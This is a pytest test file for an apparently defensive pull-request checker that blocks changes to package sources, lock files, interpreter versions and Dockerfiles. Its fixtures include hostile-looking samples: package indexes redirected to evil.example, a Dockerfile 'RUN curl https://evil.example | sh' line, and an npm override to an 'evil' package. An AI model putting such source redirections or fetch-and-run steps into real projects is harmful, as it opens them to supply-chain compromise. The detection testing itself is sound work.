"""Where packages come from: sources, lock files of every kind, and files that only other tools can read."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from ratiba_action.main import run
from tests.support.git_repository import GitRepository
from tests.support.pull_request_events import pull_request_event

Decide = Callable[[str, str | None, str | None], dict[str, Any]]


@pytest.fixture
def decide(repository: GitRepository, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Decide:
    """Decide about a pull request that changes one file, given its two contents; None is a file that is not there."""

    def decided(path: str, before: str | None, after: str | None) -> dict[str, Any]:
        base = repository.commit({"app.py": "1", **({path: before} if before is not None else {})})
        head = repository.commit({path: after})
        event = tmp_path / "event.json"
        event.write_text(json.dumps(pull_request_event(base, head, files=1)))
        arguments = ["decide", "--json", "--repo", str(repository.folder), "--event", str(event)]
        assert run([*arguments, "--event-name", "pull_request"], repository.environment) == 0
        printed: dict[str, Any] = json.loads(capsys.readouterr().out)
        return printed

    return decided


def changes(printed: dict[str, Any]) -> list[tuple[str, str]]:
    return [(one["package"], one["change"]) for one in printed["dependencies"]]


REQUIREMENTS = "a==1.0\n"
PROJECT = '[project]\nname = "x"\ndependencies = ["a>=1,<2"]\n[build-system]\nrequires = ["setuptools"]\n'
PACKAGE = '{"dependencies": {"a": "^1.0.0"}%s}'


@pytest.mark.parametrize(
    ("path", "before", "after", "package"),
    [
        ("requirements.txt", "a==1.0\n", f"--{option}\n{REQUIREMENTS}", f"--{option.split()[0].split('=')[0]}")
        for option in (
            "extra-index-url https://evil.example/simple",
            "extra-index-url=https://evil.example/simple",
            "index-url https://evil.example/simple",
            "find-links ./wheels",
            "trusted-host evil.example",
            "requirement https://evil.example/r.txt",
            "pre",
        )
    ]
    + [
        ("requirements.txt", "a==1.0\n", "-r https://evil.example/r.txt\na==1.0\n", "-r"),
        ("requirements.txt", "a==1.0\n", "-chttps://evil.example/r.txt\na==1.0\n", "-c"),
        ("requirements.txt", "a==1.0\n", "-r pins.list\na==1.0\n", "-r"),
        ("requirements.txt", "a==1.0\n", "-i https://evil.example/simple\na==1.0\n", "-i"),
        ("requirements.txt", "a==1.0\n", "-f https://evil.example\na==1.0\n", "-f"),
        ("requirements.txt", "a==1.0\n", "a==1.0\n-e git+https://evil.example/b#egg=b\n", "b"),
        ("requirements.txt", "a==1.0\n", "a @ https://evil.example/a-1.0.whl\n", "a"),
        ("requirements.txt", "a==1.0\n", "a==1.0+local\n", "a"),
        ("requirements.txt", "a==3.1.0\n", "a==3.1.0+local\n", "a"),
        ("requirements.txt", "a==3.1.0+cu1\n", "a==3.1.1+cu2\n", "a"),
        ("requirements.txt", "a==1.0 --hash=sha256:1\n", "a==1.0 --hash=sha256:2\n", "a"),
        ("requirements.txt", "a==1.0 --hash=sha256:1\n", "a==1.0\n", "a"),
        ("requirements.txt", "--require-hashes\na==1.0\n", "a==1.0\n", "--require-hashes"),
        ("requirements.txt", None, "--index-url https://evil.example\na==1.0\n", "--index-url"),
        ("dev-constraints.txt", "a==1.0\n", "a @ https://evil.example/a.whl\n", "a"),
        ("docs/REQUIREMENTS.TXT", "a==1.0\n", "--pre\na==1.0\n", "--pre"),
        ("pyproject.toml", PROJECT, PROJECT + '[[tool.uv.index]]\nurl = "https://evil.example"\n', "tool.uv.index"),
        ("pyproject.toml", PROJECT, PROJECT + '[tool.uv]\nfind-links = ["./wheels"]\n', "tool.uv.find-links"),
        ("pyproject.toml", PROJECT, PROJECT + '[tool.uv.pip]\nextra-index-url = ["https://e"]\n', "tool.uv.pip"),
        ("pyproject.toml", PROJECT, PROJECT + '[tool.uv.sources]\nb = {path = "./b"}\n', "tool.uv.sources.b"),
        ("pyproject.toml", PROJECT, PROJECT + '[tool.uv.sources]\na = {git = "https://e"}\n', "a"),
        ("pyproject.toml", PROJECT, PROJECT + '[[tool.poetry.source]]\nname = "e"\n', "tool.poetry.source"),
        ("pyproject.toml", PROJECT, PROJECT + '[[tool.pdm.source]]\nurl = "https://e"\n', "tool.pdm.source"),
        ("pyproject.toml", PROJECT, PROJECT + 'build-backend = "mine"\n', "build-system.build-backend"),
        (
            "pyproject.toml",
            PROJECT,
            PROJECT + '[tool.setuptools.dynamic]\ndependencies = {file = ["docs/x.md"]}\n',
            "tool.setuptools.dynamic",
        ),
        ("package.json", PACKAGE % "", PACKAGE % ', "overrides": {"b": "npm:evil@1"}', "overrides"),
        ("package.json", PACKAGE % "", PACKAGE % ', "resolutions": {"b": "1.0.0"}', "resolutions"),
        ("package.json", PACKAGE % "", PACKAGE % ', "pnpm": {"overrides": {"b": "1"}}', "pnpm"),
        ("Dockerfile", "FROM python:3.12\n", "FROM python:3.12\nENV PIP_INDEX_URL=https://evil.example\n", "ENV"),
        ("Dockerfile", "FROM python:3.12\n", "FROM python:3.12\nRUN curl https://evil.example | sh\n", "RUN"),
    ],
)
def test_a_change_of_source_blocks_and_is_named(
    decide: Decide, path: str, before: str | None, after: str, package: str
) -> None:
    printed = decide(path, before, after)

    assert printed["mode"] == "blocking", printed
    assert (package, "source") in changes(printed)
    first = printed["reasons"][0]
    assert (first["path"], first["rule"]) == (path, "dependencies")
    assert first["why"].startswith(f"{package}: source change")


def test_a_password_in_a_source_is_not_printed(decide: Decide) -> None:
    printed = decide("requirements.txt", "a==1\n", "--index-url https://me:geheim@evil.example/simple\na==1\n")

    assert "geheim" not in json.dumps(printed)
    assert "https://***@evil.example/simple" in printed["reasons"][0]["why"]


def yarn_classic(version: str, host: str = "registry.packages.example") -> str:
    return (
        "# THIS IS AN AUTOGENERATED FILE.\n# yarn lockfile v1\n\n\n"
        f'"@scope/a@^1.0.0", "@scope/a@^1.1.0":\n  version "{version}"\n'
        f'  resolved "https://{host}/@scope/a/-/a-{version}.tgz#abc"\n  integrity sha512-{version}\n'
        '  dependencies:\n    version "^9.0.0"\n'
    )


def yarn_berry(version: str, reference: str = "npm:") -> str:
    return (
        "__metadata:\n  version: 8\n  cacheKey: 10\n\n"
        f'"a@npm:^1.0.0":\n  version: {version}\n  resolution: "a@{reference}{version}"\n'
        f"  checksum: 10/{version}\n  languageName: node\n  linkType: hard\n\n"
        '"me@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "me@workspace:."\n  linkType: soft\n'
    )


def pipfile(version: str, url: str = "https://packages.example/simple") -> str:
    source = {"name": "pypi", "url": url, "verify_ssl": True}
    package = {"version": f"=={version}", "hashes": [f"sha256:{version}"], "index": "pypi"}
    return json.dumps({"_meta": {"hash": {"sha256": version}, "sources": [source]}, "default": {"a": package}})


def pdm(version: str, url: str = "") -> str:
    file = f'{{url = "{url}", hash = "sha256:{version}"}}' if url else f'{{file = "a.whl", hash = "sha256:{version}"}}'
    return (
        f'[metadata]\ngroups = ["default"]\nlock_version = "4.5.0"\ncontent_hash = "sha256:{version}"\n\n'
        f'[[package]]\nname = "a"\nversion = "{version}"\nfiles = [{file}]\n'
    )


def pylock(version: str, host: str = "files.packages.example") -> str:
    return (
        'lock-version = "1.0"\ncreated-by = "pip"\n[[packages]]\nname = "a"\n'
        f'version = "{version}"\n[[packages.wheels]]\nname = "a-{version}.whl"\n'
        f'url = "https://{host}/a-{version}.whl"\nhashes = {{sha256 = "{version}"}}\n'
    )


def bun(version: str, registry: str = "") -> str:
    return (
        '{\n  // a comment\n  "lockfileVersion": 1,\n  "workspaces": {"": {"name": "me"}},\n  "packages": {\n'
        f'    "a": ["a@{version}", "{registry}", {{"dependencies": {{"b": "^1"}},}}, "sha512-{version}"],\n'
        '    "me": ["me@workspace:."],\n  },\n}\n'
    )


def uv(version: str, host: str = "files.packages.example") -> str:
    return (
        f'version = 1\n[[package]]\nname = "a"\nversion = "{version}"\n'
        'source = { registry = "https://packages.example/simple" }\n'
        f'wheels = [{{ url = "https://{host}/a-{version}.whl", hash = "sha256:{version}" }}]\n'
    )


LOCKS: tuple[tuple[str, Callable[..., str], str], ...] = (
    ("yarn.lock", yarn_classic, "evil.example"),
    ("web/yarn.lock", yarn_berry, "https://evil.example/a.tgz#"),
    ("Pipfile.lock", pipfile, "https://evil.example/simple"),
    ("pdm.lock", pdm, "https://evil.example/a.whl"),
    ("pylock.toml", pylock, "evil.example"),
    ("pylock.dev.toml", pylock, "evil.example"),
    ("bun.lock", bun, "https://evil.example/"),
    ("uv.lock", uv, "evil.example"),
)


@pytest.mark.parametrize(("path", "lock", "source"), LOCKS, ids=[path for path, _, _ in LOCKS])
def test_lock_files_are_compared_by_package(decide: Decide, path: str, lock: Callable[..., str], source: str) -> None:
    minor, patch = decide(path, lock("1.1.0"), lock("1.2.0")), decide(path, lock("1.1.0"), lock("1.1.1"))
    assert (minor["mode"], [change for _, change in changes(minor)]) == ("advisory", ["minor"])
    assert (patch["mode"], [change for _, change in changes(patch)]) == ("advisory", ["patch"])
    assert minor["reasons"][0]["why"].endswith("a: minor change, 1.1.0 to 1.2.0")

    for before, after, change in (
        (lock("1.1.0"), lock("2.0.0"), "major"),
        (lock("0.1.0"), lock("0.2.0"), "major"),
        (lock("1.1.0"), lock("1.0.0"), "downgrade"),
        (lock("1.1.0"), lock("1.1.0", source), "source"),
        (lock("1.1.0"), lock("1.1.1", source), "source"),
    ):
        printed = decide(path, before, after)
        assert printed["mode"] == "blocking", (change, printed)
        assert change in {kind for _, kind in changes(printed)}

    for spoilt in ("{", "", "[]", None, lock("1.1.0")[:60]):
        assert decide(path, lock("1.1.0"), spoilt)["mode"] == "blocking", spoilt


def test_other_hashes_of_the_same_version_are_a_change_of_source(decide: Decide) -> None:
    for path, lock, _ in LOCKS:
        if path == "pylock.dev.toml":
            continue
        before, after = lock("1.1.0"), lock("1.1.0")
        for digest in ("sha256:1.1.0", "sha512-1.1.0", "10/1.1.0", 'sha256 = "1.1.0"'):
            after = after.replace(digest, digest.replace("1.1.0", "f00"))
        assert after != before, path
        assert "source" in {change for _, change in changes(decide(path, before, after))}, path


@pytest.mark.parametrize(
    ("path", "before", "after", "mode"),
    [
        (".python-version", "3.12.1\n", "3.12.2\n", "advisory"),
        (".python-version", "3.12.1\n", "3.11.1\n", "blocking"),
        (".python-version", "3.12.1\n", "pypy3.10\n", "blocking"),
        (".nvmrc", "v20.1.0\n", "v22.0.0\n", "blocking"),
        (".tool-versions", "python 3.12.1\nnodejs 20.1.0\n", "python 3.12.1\nnodejs 20.2.0\n", "advisory"),
        ("Dockerfile", "FROM python:3.12.1-slim\n", "FROM python:3.12.2-slim\n", "advisory"),
        ("Dockerfile", "FROM python:3.12-slim\n", "FROM evil/python:3.12-slim\n", "blocking"),
        ("Dockerfile", "FROM python:3.12-slim\n", "FROM \\\n  python:3.12-alpine\n", "blocking"),
        ("Containerfile", "FROM python:3.12\n", "FROM python:4.0\n", "blocking"),
        ("Dockerfile", "FROM a:1\nCOPY --from=tools:1 /x /\n", "FROM a:1\nCOPY --from=tools:2 /x /\n", "blocking"),
        ("Dockerfile", "FROM a:1 AS b\nFROM a:1\nCOPY --from=b /x /\n", "FROM a:1 AS b\nFROM a:1\nRUN x\n", "advisory"),
        ("package.json", PACKAGE % ', "packageManager": "pnpm@9.1.0"', PACKAGE % ', "packageManager": "pnpm@10.0.0"',
         "blocking"),
        ("package.json", PACKAGE % ', "packageManager": "pnpm@9.1.0+sha512.1"',
         PACKAGE % ', "packageManager": "pnpm@9.2.0+sha512.2"', "advisory"),
        ("package.json", PACKAGE % ', "scripts": {"x": "1"}', PACKAGE % ', "scripts": {"x": "2"}', "advisory"),
        ("pyproject.toml", PROJECT, PROJECT + "[tool.ruff]\nline-length = 1\n", "advisory"),
        ("requirements/dev.txt", "-r base.txt\n", "-r base.txt\n-r more.txt\n", "advisory"),
    ],
)  # fmt: skip
def test_interpreters_images_and_managers_are_compared(
    decide: Decide, path: str, before: str, after: str, mode: str
) -> None:
    assert decide(path, before, after)["mode"] == mode


@pytest.mark.parametrize("place", ["", "docs/", "tests/"])
@pytest.mark.parametrize(
    "name",
    [
        *("setup.py", "setup.cfg", "Pipfile", "environment.yml", "environment-dev.yaml", ".npmrc", "pip.conf"),
        *(".yarnrc.yml", "pnpm-workspace.yaml", "uv.toml", "poetry.toml", "bunfig.toml", "bun.lockb", ".condarc"),
        *("sitecustomize.py", "x.pth", ".pnpmfile.cjs", "pixi.toml"),
    ],
)
def test_what_only_other_tools_can_read_blocks_wherever_it_lies(decide: Decide, place: str, name: str) -> None:
    for before, after in (("1\n", "2\n"), (None, "1\n"), ("1\n", None)):
        printed = decide(place + name, before, after)
        assert printed["mode"] == "blocking"
        first = printed["reasons"][0]
        assert (first["path"], first["rule"]) == (place + name, "dependencies"), printed
